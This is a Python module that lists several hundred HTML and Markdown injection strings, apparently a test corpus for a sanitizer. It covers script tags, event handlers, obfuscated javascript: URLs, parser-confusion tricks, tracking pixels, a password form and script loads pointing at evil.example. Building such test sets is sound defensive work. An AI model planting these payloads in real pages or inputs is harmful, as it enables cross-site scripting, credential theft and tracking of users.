"""Pieces of HTML and Markdown that try to run, load, track, or break out; each a way of its own."""

# One a line: what stands there goes into a text as it is.
WRITTEN = r'''
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil.example/x.js></script>
<script/x>alert(1)</script/x>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)
<script><!--alert(1)--></script>
<script type=module>import "//evil.example/x.js"</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example"]}]}</script>
<script xlink:href="data:,alert(1)"></script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=x OnErRoR=alert(1)>
<img src="x" onerror
=alert(1)>
<img """><script>alert(1)</script>">
<img src=`x`onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img srcset="x" onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<img src=javascript:alert(1)>
<img dynsrc=javascript:alert(1)>
<img lowsrc=javascript:alert(1)>
<img src=x onload=alert(1) usemap="#m"><map name=m><area href=javascript:alert(1)></map>
<image src=x onerror=alert(1)>
<picture><source srcset=//evil.example/1.png><img src=//evil.example/1.png></picture>
<p onclick=alert(1)>x</p>
<p onmouseover="alert(1)">x</p>
<p onpointerenter='alert(1)'>x</p>
<p onfocus=alert(1) tabindex=1 autofocus>x</p>
<p onanimationstart=alert(1) style="animation:x">x</p>
<p ontransitionend=alert(1)>x</p>
<p onwheel=alert(1)>x</p>
<p oncopy=alert(1)>x</p>
<p onbeforetoggle=alert(1) popover>x</p>
<p oncontentvisibilityautostatechange=alert(1)>x</p>
<p on click=alert(1)>x</p>
<p onclick&#61;alert(1)>x</p>
<p/onclick=alert(1)>x</p>
<p ONCLICK=alert(1)>x</p>
<p onclick=&#97;lert(1)>x</p>
<p xonclick=1 onclick	=alert(1)>x</p>
<body onload=alert(1)>x
<html onclick=alert(1)>x
<b onbeforescriptexecute=alert(1)>x</b>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<marquee behavior=alternate onbounce=alert(1)>x</marquee>
<select autofocus onfocus=alert(1)><option>x</select>
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.example/1.png>
<input type=hidden accesskey=x onclick=alert(1)>
<textarea autofocus onfocus=alert(1)>x</textarea>
<textarea></textarea><script>alert(1)</script>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video poster=//evil.example/1.png></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay src=//evil.example/1.mp3></audio>
<track src=//evil.example/1.vtt onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object classid="clsid:x"><param name=url value=javascript:alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="//evil.example/1.swf">
<applet code=x codebase=//evil.example></applet>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src=//evil.example></iframe>
<iframe onload=alert(1)></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<frameset onload=alert(1)>
<portal src=//evil.example></portal>
<fencedframe src=//evil.example></fencedframe>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#13;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="&#106avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3a;alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&nbsp;javascript:alert(1)">x</a>
<a href="&#8203;javascript:alert(1)">x</a>
<a href="&#xfeff;javascript:alert(1)">x</a>
<a href="&#8232;javascript:alert(1)">x</a>
<a href="javas&#173;cript:alert(1)">x</a>
<a href="javascript://example.org/%0aalert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="VBSCRIPT:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:text/html,x">x</a>
<a href="data&colon;text/html,x">x</a>
<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://example.org/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:https://example.org/1">x</a>
<a href="about:blank">x</a>
<a href="intent://x#Intent;scheme=http;end">x</a>
<a href="ms-word:ofe|u|//evil.example">x</a>
<a href="search-ms:query=x">x</a>
<a href="x" href="javascript:alert(1)">x</a>
<a href="x" xlink:href="javascript:alert(1)">x</a>
<a href=x ping=//evil.example>x</a>
<a href=x target=_top onclick=alert(1)>x</a>
<a href=x download=evil.exe>x</a>
<a href="x" style="position:fixed;inset:0">x</a>
<a href='x' title='"><script>alert(1)</script>'>x</a>
<a href="x&quot; onclick=&quot;alert(1)">x</a>
<a href="https://example.org" attributionsrc="//evil.example">x</a>
<a name="x" href="javascript:alert(1)//#x">x</a>
<area href=javascript:alert(1)>
<base href="//evil.example/">
<base target=_parent>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example>
<link rel=prefetch href=//evil.example>
<link rel=dns-prefetch href=//evil.example>
<link rel="preload" as=script href=//evil.example/x.js>
<link rel=manifest href=//evil.example/x.json>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=//evil.example">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta name=referrer content=unsafe-url>
<form action=javascript:alert(1)><input type=submit></form>
<form action=//evil.example><input name=password></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<button onclick=alert(1)>x</button>
<button popovertarget=x>x</button>
<isindex action=javascript:alert(1) type=image>
<style>@import "//evil.example/x.css";</style>
<style>body{background:url(//evil.example/1.png)}</style>
<style><img src=x onerror=alert(1)></style>
<style></style><script>alert(1)</script>
<p style="background:url(javascript:alert(1))">x</p>
<p style="background-image:url(//evil.example/1.png)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</p>
<p style='content:"\3cscript\3e"'>x</p>
<p class="page-header" role=banner>x</p>
<table background=//evil.example/1.png><tr><td>x</table>
<td background=javascript:alert(1)>x</td>
<body background=//evil.example/1.png>x
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><p onclick=alert(1)>x</p></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><image href=//evil.example/1.png></svg>
<svg><![CDATA[><script>alert(1)</script>]]></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<math><annotation-xml encoding="text/html"><p onclick=alert(1)>x</p></annotation-xml></math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="data:text/html,x">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><img src=//evil.example/1.png></noscript>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<xmp><img src=x onerror=alert(1)></xmp>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<listing><img src=x onerror=alert(1)></listing>
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<title></title><img src=x onerror=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<slot onslotchange=alert(1)>x</slot>
<xml><i><b onclick=alert(1)>x</b></i></xml>
<x-custom onclick=alert(1)>x</x-custom>
<x onclick=alert(1)>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<html:script>alert(1)</html:script>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<?php echo "<script>alert(1)</script>" ?>
<!--><script>alert(1)</script>-->
<!--!><script>alert(1)</script>
<!-- --!><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- <p title="--><img src=x onerror=alert(1)>"> -->
<![CDATA[<script>alert(1)</script>]]>
<![if gte IE 4]><script>alert(1)</script><![endif]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
</p><script>alert(1)</script>
</body></html><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
`><script>alert(1)</script>
<p title="</p><script>alert(1)</script>">x</p>
<p id='x"><script>alert(1)</script>'>x</p>
<p lang='en" onclick="alert(1)'>x</p>
<p dir='"><script>alert(1)</script>'>x</p>
<time datetime='"><script>alert(1)</script>'>x</time>
<ol start='1" onclick="alert(1)'><li>x</ol>
<td colspan='2" onclick="alert(1)'>x</td>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite=//evil.example/1>x</q>
<del cite="javascript:alert(1)">x</del>
<ruby><rt><script>alert(1)</script></rt></ruby>
<table><caption><script>alert(1)</script></caption></table>
<table><script>alert(1)</script><tr><td>x</table>
<table><a href=javascript:alert(1)>x</a></table>
<table><form><tr><td></form><img src=x onerror=alert(1)></table>
<p><a href="javascript:alert(1)"><b>x</p></a></b>
<b><p><a href=javascript:alert(1)></b></p>x</a>
<font color=red onclick=alert(1)>x</font>
<center><img src=x onerror=alert(1)></center>
<bgsound src=//evil.example/1.mid>
<layer src=//evil.example></layer>
<o:p onclick=alert(1)>x</o:p>
<v:shape style="behavior:url(#default#VML)" onclick=alert(1)><v:imagedata src=//evil.example/1.png></v:shape>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
﹤script﹥alert(1)﹤/script﹥
‹script›alert(1)‹/script›
<ſcript>alert(1)</ſcript>
<İmg src=x onerror=alert(1)>
<a href="ｊavascript:alert(1)">x</a>
<a href="javaſcript:alert(1)">x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java\script:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](https://example.org "title\" onclick=\"alert(1)")
[x](https://example.org/"onclick="alert(1))
[x]: javascript:alert(1)
[x][y] [y]: javascript:alert(1)
![x](javascript:alert(1))
![x](//evil.example/pixel.gif)
![x](https://evil.example/pixel.gif?reader=1)
![x"onerror="alert(1)](x.png)
![x](x.png"onerror="alert(1))
<javascript:alert(1)>
<https://example.org/"onclick=alert(1)>
[<img src=x onerror=alert(1)>](https://example.org)
[![x](javascript:alert(1))](javascript:alert(1))
`<script>alert(1)</script>`
```<script>alert(1)</script>```
    <script>alert(1)</script>
> <script>alert(1)</script>
- <script>alert(1)</script>
# <script>alert(1)</script>
|<script>alert(1)</script>|
[^1] [^1]: <script>alert(1)</script>
**<script>alert(1)</script>**
{{ "<script>alert(1)</script>" }}
{% raw %}<script>alert(1)</script>{% endraw %}
{{< script src="javascript:alert(1)" >}}
{% include "<script>alert(1)</script>" %}
[figure src="javascript:alert(1)" caption="<script>alert(1)</script>"]
{{< figure src="x.png" caption="<img src=x onerror=alert(1)>" >}}
{{< youtube "x\"><script>alert(1)</script>" >}}
{: onclick="alert(1)" style="x"}
'''.strip("\n").split("\n")
# Signs that cannot stand in a line of their own.
CONTROLS = [
    *(
        f'<a href="{sign}javascript:alert(1)">x</a>'
        for sign in "\x01\x08\x0b\x0c\x1f\x7f\x80\x9f\xad\u200b\u2060\ufeff"
    ),
    *(f'<a href="java{sign}script:alert(1)">x</a>' for sign in "\x00\t\n\r\x0b\x0c\x1f\xad\u200b\u200d\u2028\ufeff"),
    *(f"<p{sign}onclick=alert(1)>x</p>" for sign in "\t\n\r\x0b\x0c/\x00\xa0\u2028"),
    *(f"<{sign}script>alert(1)</script>" for sign in "\x00\x0b\u200b\ufeff"),
    '<a href="https://example.org/\u202egpj.exe">x</a>',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x one\x00rror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
]
VECTORS = list(dict.fromkeys([*WRITTEN, *CONTROLS]))
